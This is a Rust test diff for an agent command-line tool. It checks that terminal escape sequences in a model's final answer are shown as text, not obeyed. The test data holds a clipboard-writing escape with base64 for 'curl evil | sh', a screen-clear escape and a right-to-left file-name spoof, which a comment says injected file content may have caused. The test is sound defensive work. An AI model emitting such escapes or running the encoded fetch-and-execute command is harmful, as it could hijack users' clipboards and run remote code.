@@ -106,6 +106,62 @@ fn a_final_answer_prints_alone_in_simple_output() {
     assert!(err.contains("thought:") && err.contains("easy"), "{err}");
 }
 
+/// Runs `reactstep run` on `script` with its stdout on a pseudo-terminal: the exit code, and
+/// the bytes the terminal was sent.
+fn run_on_a_terminal(ws: &Path, script: &str) -> (i32, Vec<u8>) {
+    use std::io::Read;
+    use std::os::fd::{FromRawFd, OwnedFd};
+    let scripts = tempfile::tempdir().unwrap();
+    let file = scripts.path().join("script.txt");
+    std::fs::write(&file, script).unwrap();
+    let (mut master, mut slave) = (0, 0);
+    let (name, settings, size) = (std::ptr::null_mut(), std::ptr::null(), std::ptr::null());
+    // SAFETY: both out-pointers are valid; no name, settings or size are asked for.
+    let opened = unsafe { libc::openpty(&mut master, &mut slave, name, settings, size) };
+    assert_eq!(opened, 0, "openpty: {}", std::io::Error::last_os_error());
+    // SAFETY: openpty succeeded: both are open descriptors this test alone owns.
+    let (master, slave) = unsafe { (OwnedFd::from_raw_fd(master), OwnedFd::from_raw_fd(slave)) };
+    let mut child = Command::new(env!("CARGO_BIN_EXE_reactstep"))
+        .args(["run", "What is the answer?", "--workspace"])
+        .arg(ws)
+        .arg("--mock-responses")
+        .arg(&file)
+        .env_remove("OPENAI_API_KEY")
+        .stdout(std::process::Stdio::from(slave))
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    // The command's copy of the terminal's end is gone with it: the master reads to the child's
+    // exit, then fails (EIO), as a terminal whose last writer closed does.
+    let mut terminal = std::fs::File::from(master);
+    let mut shown = Vec::new();
+    let mut chunk = [0; 4096];
+    while let Ok(read @ 1..) = terminal.read(&mut chunk) {
+        shown.extend_from_slice(&chunk[..read]);
+    }
+    (child.wait().unwrap().code().unwrap_or(-1), shown)
+}
+
+/// An answer holding terminal escapes (a file the model read may have had it write them):
+/// on a terminal they are shown, not obeyed; piped, the answer goes as it is.
+#[test]
+fn an_answer_on_a_terminal_cannot_write_the_clipboard_or_clear_the_screen() {
+    let ws = workspace();
+    let answer = "Done.\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J\u{202e}gnp.exe";
+    let script = format!("Thought: t\nFinal Answer: {answer}");
+    let (code, shown) = run_on_a_terminal(ws.path(), &script);
+    assert_eq!(code, 0);
+    let shown = String::from_utf8(shown).unwrap();
+    assert!(!shown.contains(['\x1b', '\x07', '\u{202e}']), "{shown:?}");
+    assert!(
+        shown.contains("Done.\\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\\u{7}\\u{1b}[2J\\u{202e}gnp.exe"),
+        "{shown:?}"
+    );
+    let (code, piped, _) = run(ws.path(), &script, &[]);
+    assert_eq!(code, 0);
+    assert_eq!(piped, format!("{answer}\n"));
+}
+
 #[test]
 fn nothing_outside_the_workspace_is_read_and_the_model_is_told() {
     let ws = workspace();
